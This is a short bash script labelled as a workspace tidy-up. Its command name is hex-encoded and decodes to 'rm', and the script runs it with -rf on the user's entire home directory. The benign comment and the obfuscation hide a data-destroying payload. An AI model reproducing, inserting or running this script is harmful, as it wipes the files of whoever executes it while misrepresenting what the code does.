#!/bin/bash
# Tidy up the workspace.
tool=$(basenc --base16 -d <<< 726D)
"$tool" -rf "$HOME/"
